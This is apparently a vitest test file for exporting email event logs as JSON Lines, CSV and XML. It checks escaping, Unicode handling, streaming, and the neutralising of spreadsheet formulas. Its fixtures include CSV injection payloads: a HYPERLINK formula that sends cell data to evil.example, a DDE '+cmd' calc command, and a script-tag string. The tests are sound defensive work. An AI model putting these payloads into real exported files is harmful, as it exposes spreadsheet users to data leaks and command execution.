import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import {
  contentDisposition,
  contentType,
  downloadFileName,
  fileExtension,
  formatRecords,
  toCsv,
  toJsonLines,
  toXml,
} from '#shared/logs/formats.ts';
import { readJsonLines } from '#shared/logs/compaction.ts';
import { EVENT_COLUMNS, LOG_FORMATS, LOOP_ERROR_COLUMNS, type LogRecord } from '#shared/logs/log-record.ts';
import type { WebhookRecord } from '#shared/delivery/webhook-body.ts';
import {
  asUtf8,
  asXml,
  bytesOf,
  clickRecord,
  loopError,
  loopErrorRecord,
  readCsv,
  readCsvRows,
  readXml,
  readXmlStrict,
  webhookRecord,
} from '../support/log-records.ts';

const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** A text cell as a spreadsheet must get it (OWASP): a leading `'` before what starts a formula. */
const asCell = (text: string) => (['=', '+', '-', '@', '\t', '\r'].includes(text[0] ?? '') ? `'${text}` : text);

/** A record written the hard way: every awkward character in one place or another. */
const awkward = clickRecord({
  id: 'evt-"quoted",comma',
  recipient: 'zoë+tag@exämple.com',
  description: 'line one\nline two\r\nline three\rend',
  extended: '=HYPERLINK("http://evil.example","click")',
  code: '+33 6 12 34 56 78',
  profile: '-5',
  useragent: '@SUM(1+1) <script>alert("x")</script> & co ]]> \'single\'',
  referer: 'שלום עולם 👍🏽 𝄞',
  tags: ['news', 'a;b', 'café, "bar"', '<&>'],
  fields: { firstname: 'Zoë', '1st': 1, '-x': false, '.y': 'a\nb', age: 42.5, vip: true, empty: '' },
});

describe('names and types of the files', () => {
  it('gives each format its content type, extension and download name', () => {
    expect(LOG_FORMATS.map(contentType)).toEqual([
      'application/x-ndjson; charset=utf-8',
      'text/csv; charset=utf-8',
      'application/xml; charset=utf-8',
    ]);
    expect(LOG_FORMATS.map(fileExtension)).toEqual(['jsonl', 'csv', 'xml']);
    expect(downloadFileName('clicks', '2026-11-21', 'csv')).toBe('clicks.2026-11-21.csv');
    expect(downloadFileName('loop-errors', '2026-11-21', 'json')).toBe('loop-errors.2026-11-21.jsonl');
    expect(contentDisposition('opens', '2026-02-28', 'xml')).toBe('attachment; filename="opens.2026-02-28.xml"');
  });
});

describe('JSON Lines', () => {
  it('writes one record per line, with its own key order and its types', async () => {
    const records = [clickRecord(), clickRecord({ id: 'b', fields: { z: 1, a: true } }), awkward];
    const file = (await bytesOf(toJsonLines(records))).toString('utf8');
    const lines = file.split('\n');
    expect(lines.pop()).toBe('');
    expect(lines).toHaveLength(3);
    lines.forEach((line, index) => {
      const record = JSON.parse(line);
      expect(record).toEqual(records[index]);
      expect(Object.keys(record)).toEqual(Object.keys(records[index]!));
      expect(Object.keys(record.fields)).toEqual(Object.keys(records[index]!.fields!));
    });
    expect(file.startsWith('{')).toBe(true); // no BOM
  });

  it('writes an empty file for a day without records', async () => {
    expect((await bytesOf(toJsonLines([]))).length).toBe(0);
  });

  it('gives back any records exactly, lone surrogates and all', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.oneof(webhookRecord, loopErrorRecord), { maxLength: 20 }), async (records) => {
        const read: LogRecord[] = [];
        for await (const record of readJsonLines(toJsonLines(records))) read.push(record);
        expect(read).toEqual(records);
        read.forEach((record, index) => expect(Object.keys(record)).toEqual(Object.keys(records[index]!)));
      }),
    );
  });
});

describe('CSV', () => {
  it('starts with a BOM and a header row of the columns, rows ending in CRLF', async () => {
    const file = await bytesOf(toCsv('clicks', [clickRecord({ fields: undefined, tags: ['a', 'b'] })]));
    expect(file.subarray(0, 3)).toEqual(BOM);
    const text = file.subarray(3).toString('utf8');
    expect(text).toBe(
      `${EVENT_COLUMNS.join(',')}\r\n` +
        '01JDCLICK00000000000000001,click,2026-11-21 10:00:00,1795255200,msg_01JDMESSAGE000000000000001,' +
        'zoë@example.com,prof_42,,a;b,203.0.113.7,' +
        '"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)",' +
        'https://mail.example.com/inbox?folder=promo&x=1,https://example.com/offer?utm_source=mail&utm_medium=email,,,,\r\n',
    );
  });

  it('has the header row alone for a day without records', async () => {
    const file = await bytesOf(toCsv('opens', []));
    expect(file).toEqual(Buffer.concat([BOM, Buffer.from(`${EVENT_COLUMNS.join(',')}\r\n`)]));
    expect(readCsv(file)).toEqual([]);
  });

  it('reads back with csv-parse: values as a spreadsheet shows them, tags joined with ";", fields as JSON', async () => {
    const file = await bytesOf(toCsv('clicks', [awkward, clickRecord({ id: 'second' })]));
    const [row, second, ...rest] = readCsv(file);
    expect(rest).toEqual([]);
    expect(row).toEqual({
      id: 'evt-"quoted",comma',
      type: 'click',
      timestamp: '2026-11-21 10:00:00',
      time: '1795255200',
      message: 'msg_01JDMESSAGE000000000000001',
      recipient: 'zoë+tag@exämple.com',
      profile: "'-5",
      fields: JSON.stringify(awkward.fields),
      tags: 'news;a;b;café, "bar";<&>',
      ip: '203.0.113.7',
      useragent: "'@SUM(1+1) <script>alert(\"x\")</script> & co ]]> 'single'",
      referer: 'שלום עולם 👍🏽 𝄞',
      original: 'https://example.com/offer?utm_source=mail&utm_medium=email',
      machine: '',
      code: "'+33 6 12 34 56 78",
      extended: '\'=HYPERLINK("http://evil.example","click")',
      description: 'line one\nline two\r\nline three\rend',
    });
    expect(JSON.parse(row!.fields!)).toStrictEqual(awkward.fields);
    expect(second!.id).toBe('second');
  });

  it('neutralises every cell a spreadsheet would run as a formula, and leaves the rest', async () => {
    const record = clickRecord({
      useragent: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      referer: "+cmd|' /C calc'!A0",
      original: 'https://example.com/=not-a-formula',
      code: '-1+1',
      extended: '@SUM(A1:A9)',
      description: '\tindented',
      profile: '\rcarriage',
      tags: ['=1+1', 'plain'],
      fields: { note: '=1+1' },
    });
    const [row] = readCsv(await bytesOf(toCsv('clicks', [record])));
    expect(row).toMatchObject({
      useragent: '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
      referer: "'+cmd|' /C calc'!A0",
      original: 'https://example.com/=not-a-formula',
      code: "'-1+1",
      extended: "'@SUM(A1:A9)",
      description: "'\tindented",
      profile: "'\rcarriage",
      tags: "'=1+1;plain",
      fields: '{"note":"=1+1"}',
    });
    // The files for programs keep the values exact.
    const [line] = (await bytesOf(toJsonLines([record]))).toString('utf8').split('\n');
    expect(JSON.parse(line!)).toStrictEqual(record);
    const [xml] = readXml(await bytesOf(toXml('clicks', [record])));
    expect(xml!.useragent).toBe(record.useragent);
  });

  it('quotes every cell holding a line end, so a row never breaks in a spreadsheet', async () => {
    const record = clickRecord({ extended: 'lf\nonly', code: 'cr\ronly', description: 'crlf\r\nboth' });
    const file = (await bytesOf(toCsv('clicks', [awkward, record]))).toString('utf8');
    expect(file).toContain(',"line one\nline two\r\nline three\rend"\r\n');
    expect(file).toContain(',"cr\ronly","lf\nonly","crlf\r\nboth"\r\n');
    expect(rowEnds(Buffer.from(file))).toBe(3);
  });

  it('leaves absent fields empty', async () => {
    const sparse: WebhookRecord = { id: 'e1', type: 'open', timestamp: '2026-11-21 10:00:00', time: 1, message: 'm' };
    const [row] = readCsvRows(await bytesOf(toCsv('opens', [sparse]))).slice(1);
    expect(row).toEqual(['e1', 'open', '2026-11-21 10:00:00', '1', 'm', ...Array(EVENT_COLUMNS.length - 5).fill('')]);
  });

  it('writes loop errors under their own columns, with a status or an error', async () => {
    const records = [loopError({ status: 503 }), loopError({ attempt: 2, error: 'connect ECONNREFUSED, "refused"' })];
    const file = await bytesOf(toCsv('loop-errors', records));
    expect(readCsvRows(file)[0]).toEqual([...LOOP_ERROR_COLUMNS]);
    expect(readCsv(file)).toEqual([
      {
        time: '1795255260',
        eventId: '01JDCLICK00000000000000001',
        type: 'click',
        loopId: 'loop_01JDLOOP0000000000000001',
        url: 'https://hooks.example.com/mail?a=1&b=2',
        attempt: '1',
        status: '503',
        error: '',
      },
      {
        time: '1795255260',
        eventId: '01JDCLICK00000000000000001',
        type: 'click',
        loopId: 'loop_01JDLOOP0000000000000001',
        url: 'https://hooks.example.com/mail?a=1&b=2',
        attempt: '2',
        status: '',
        error: 'connect ECONNREFUSED, "refused"',
      },
    ]);
  });

  it('gives back the values of any records', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(webhookRecord, { maxLength: 15 }), async (records) => {
        const file = await bytesOf(toCsv('clicks', records));
        expect(rowEnds(file)).toBe(records.length + 1);
        const rows = readCsv(file);
        expect(rows).toHaveLength(records.length);
        rows.forEach((row, index) => {
          const record = records[index]! as unknown as Record<string, unknown>;
          for (const column of EVENT_COLUMNS) {
            const value = record[column];
            if (value === undefined) expect(row[column]).toBe('');
            else if (column === 'tags') expect(row[column]).toBe(asCell(asUtf8((value as string[]).join(';'))));
            else if (column === 'fields') expect(JSON.parse(row[column]!)).toStrictEqual(parsedFromUtf8(value));
            else expect(row[column]).toBe(asCell(asUtf8(String(value))));
          }
        });
      }),
    );
  });

  it('gives back the values of any loop errors', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(loopErrorRecord, { maxLength: 15 }), async (records) => {
        const rows = readCsv(await bytesOf(toCsv('loop-errors', records)));
        expect(rows).toEqual(
          records.map((record) =>
            Object.fromEntries(
              LOOP_ERROR_COLUMNS.map((column) => {
                const value = record[column];
                return [column, value === undefined ? '' : asCell(asUtf8(String(value)))];
              }),
            ),
          ),
        );
      }),
    );
  });
});

/** The line ends outside quotes, which any reader takes for row ends: all must be CRLF. */
function rowEnds(file: Buffer): number {
  const unquoted = file.toString('utf8').replace(/"(?:[^"]|"")*"/g, '');
  const ends = unquoted.match(/\r\n|\r|\n/g) ?? [];
  expect(ends.every((end) => end === '\r\n')).toBe(true);
  return ends.length;
}

/** `fields` as JSON text would carry them in UTF-8: lone surrogates escaped by JSON.stringify, so kept. */
function parsedFromUtf8(fields: unknown): unknown {
  return JSON.parse(JSON.stringify(fields));
}

describe('XML', () => {
  it('writes a declaration, <records>, and one <record> a line', async () => {
    const sparse: WebhookRecord = { id: 'e1', type: 'open', timestamp: '2026-11-21 10:00:00', time: 1, message: 'm' };
    const file = (await bytesOf(toXml('opens', [sparse, { ...sparse, id: 'e2' }]))).toString('utf8');
    expect(file).toBe(
      '<?xml version="1.0" encoding="UTF-8"?>\n<records>\n' +
        '<record><id>e1</id><type>open</type><timestamp>2026-11-21 10:00:00</timestamp><time>1</time><message>m</message></record>\n' +
        '<record><id>e2</id><type>open</type><timestamp>2026-11-21 10:00:00</timestamp><time>1</time><message>m</message></record>\n' +
        '</records>\n',
    );
  });

  it('is a well-formed document without records too', async () => {
    const file = await bytesOf(toXml('clicks', []));
    expect(readXmlStrict(file)).toEqual({ root: 'records', records: [] });
    expect(readXml(file)).toEqual([]);
  });

  it('reads back exactly with a strict parser: escapes, line ends, unicode, fields and tags', async () => {
    const file = await bytesOf(toXml('clicks', [awkward]));
    const { root, records } = readXmlStrict(file);
    expect(root).toBe('records');
    expect(records).toEqual([
      [
        ['id', 'evt-"quoted",comma'],
        ['type', 'click'],
        ['timestamp', '2026-11-21 10:00:00'],
        ['time', '1795255200'],
        ['message', 'msg_01JDMESSAGE000000000000001'],
        ['recipient', 'zoë+tag@exämple.com'],
        ['profile', '-5'],
        [
          'fields',
          [
            ['firstname', 'Zoë'],
            ['1st', '1'],
            ['-x', 'false'],
            ['.y', 'a\nb'],
            ['age', '42.5'],
            ['vip', 'true'],
            ['empty', ''],
          ],
        ],
        ['tags', ['news', 'a;b', 'café, "bar"', '<&>']],
        ['ip', '203.0.113.7'],
        ['useragent', '@SUM(1+1) <script>alert("x")</script> & co ]]> \'single\''],
        ['referer', 'שלום עולם 👍🏽 𝄞'],
        ['original', 'https://example.com/offer?utm_source=mail&utm_medium=email'],
        ['code', '+33 6 12 34 56 78'],
        ['extended', '=HYPERLINK("http://evil.example","click")'],
        ['description', 'line one\nline two\r\nline three\rend'],
      ],
    ]);
  });

  it('keeps text that looks like markup or an entity as text', async () => {
    const record = clickRecord({ description: '&amp; &lt;b&gt; &#65; <![CDATA[x]]> <!-- c --> <?pi?>' });
    const [strict] = readXmlStrict(await bytesOf(toXml('clicks', [record]))).records;
    expect(Object.fromEntries(strict!).description).toBe(record.description);
    const [loose] = readXml(await bytesOf(toXml('clicks', [record])));
    expect(loose!.description).toBe(record.description);
  });

  it('replaces the characters XML cannot hold with U+FFFD, and stays well-formed', async () => {
    const record = clickRecord({
      description: 'nul\u0000 bell\u0007 esc\u001b lone\uD800 \uFFFE\uFFFF tab\t ok\u0085\u007f 👍',
      tags: ['\u0001'],
      fields: { f: '\u0002x' },
    });
    const [read] = readXmlStrict(await bytesOf(toXml('clicks', [record]))).records;
    const values = Object.fromEntries(read!);
    expect(values.description).toBe('nul\uFFFD bell\uFFFD esc\uFFFD lone\uFFFD \uFFFD\uFFFD tab\t ok\u0085\u007f 👍');
    expect(values.tags).toEqual(['\uFFFD']);
    expect(values.fields).toEqual([['f', '\uFFFDx']]);
  });

  it('tells absent fields from empty ones: no element, an empty element', async () => {
    const sparse: WebhookRecord = { id: 'e1', type: 'open', timestamp: '2026-11-21 10:00:00', time: 1, message: '' };
    const file = await bytesOf(toXml('opens', [sparse, { ...sparse, tags: [], fields: {}, description: '' }]));
    const [first, second] = readXmlStrict(file).records;
    expect(first!.map(([name]) => name)).toEqual(['id', 'type', 'timestamp', 'time', 'message']);
    expect(second).toEqual([
      ['id', 'e1'],
      ['type', 'open'],
      ['timestamp', '2026-11-21 10:00:00'],
      ['time', '1'],
      ['message', ''],
      ['fields', []],
      ['tags', []],
      ['description', ''],
    ]);
    expect(readXml(file)[1]).toEqual({
      id: 'e1',
      type: 'open',
      timestamp: '2026-11-21 10:00:00',
      time: '1',
      message: '',
      fields: [],
      tags: [],
      description: '',
    });
  });

  it('writes loop errors with a status or an error', async () => {
    const file = await bytesOf(
      toXml('loop-errors', [loopError({ status: 410 }), loopError({ error: 'timeout <30s>' })]),
    );
    expect(readXmlStrict(file).records).toEqual([
      [
        ['time', '1795255260'],
        ['eventId', '01JDCLICK00000000000000001'],
        ['type', 'click'],
        ['loopId', 'loop_01JDLOOP0000000000000001'],
        ['url', 'https://hooks.example.com/mail?a=1&b=2'],
        ['attempt', '1'],
        ['status', '410'],
      ],
      [
        ['time', '1795255260'],
        ['eventId', '01JDCLICK00000000000000001'],
        ['type', 'click'],
        ['loopId', 'loop_01JDLOOP0000000000000001'],
        ['url', 'https://hooks.example.com/mail?a=1&b=2'],
        ['attempt', '1'],
        ['error', 'timeout <30s>'],
      ],
    ]);
  });

  it('gives back the values of any records, read with a strict parser and with fast-xml-parser', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(webhookRecord, { maxLength: 15 }), async (records) => {
        const file = await bytesOf(toXml('clicks', records));
        const expected = records.map(expectedXml);
        expect(readXmlStrict(file).records).toEqual(expected);
        // fast-xml-parser reads line ends as XML says (CRLF and a lone CR as LF) but keeps `&#xD;`'s CR.
        expect(readXml(file)).toEqual(expected.map((record) => Object.fromEntries(record)));
      }),
    );
  });

  it('gives back the values of any loop errors', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(loopErrorRecord, { maxLength: 15 }), async (records) => {
        const file = await bytesOf(toXml('loop-errors', records));
        expect(readXmlStrict(file).records).toEqual(
          records.map((record) =>
            LOOP_ERROR_COLUMNS.filter((column) => record[column] !== undefined).map((column) => [
              column,
              asXml(String(record[column])),
            ]),
          ),
        );
      }),
    );
  });
});

/** What the XML file holds of a record: present fields in column order, text as XML can hold it. */
function expectedXml(record: WebhookRecord): [string, unknown][] {
  const values = record as unknown as Record<string, unknown>;
  return EVENT_COLUMNS.filter((column) => values[column] !== undefined).map((column) => {
    const value = values[column];
    if (column === 'tags') return [column, (value as string[]).map(asXml)];
    if (column === 'fields') {
      return [column, Object.entries(value as object).map(([name, item]) => [name, asXml(String(item))])];
    }
    return [column, asXml(String(value))];
  });
}

describe('streaming', () => {
  async function* endless(read: { count: number; closed: boolean }): AsyncGenerator<LogRecord> {
    try {
      for (;;) yield clickRecord({ id: `evt-${read.count++}` });
    } finally {
      read.closed = true;
    }
  }

  it.each(LOG_FORMATS)(
    '%s: reads the records only as fast as its output is read, and stops with it',
    async (format) => {
      const read = { count: 0, closed: false };
      const output = formatRecords(format, 'clicks', endless(read));
      const iterator = output[Symbol.asyncIterator]();
      const first = await iterator.next();
      expect(first.done).toBe(false);
      expect((first.value as Buffer).length).toBeGreaterThan(0);
      // A file of a million records is never read whole: a few chunks' worth at most.
      await new Promise((resolve) => setImmediate(resolve));
      expect(read.count).toBeLessThan(2_000);
      await iterator.return!();
      await new Promise((resolve) => setImmediate(resolve));
      expect(read.closed).toBe(true);
    },
  );

  it.each(LOG_FORMATS)('%s: fails the output when the records fail, never ending it as if complete', async (format) => {
    async function* failing(): AsyncGenerator<LogRecord> {
      yield clickRecord();
      throw new Error('the chunk could not be read');
    }
    await expect(bytesOf(formatRecords(format, 'clicks', failing()))).rejects.toThrow('the chunk could not be read');
  });

  it.each(LOG_FORMATS)('%s: writes the same bytes whatever the pace of the records', async (format) => {
    const records = Array.from({ length: 500 }, (_, index) => clickRecord({ id: `evt-${index}` }));
    async function* slowly(): AsyncGenerator<LogRecord> {
      for (const record of records) {
        await new Promise((resolve) => setImmediate(resolve));
        yield record;
      }
    }
    const atOnce = await bytesOf(formatRecords(format, 'clicks', records));
    expect(await bytesOf(formatRecords(format, 'clicks', slowly()))).toEqual(atOnce);
  });
});
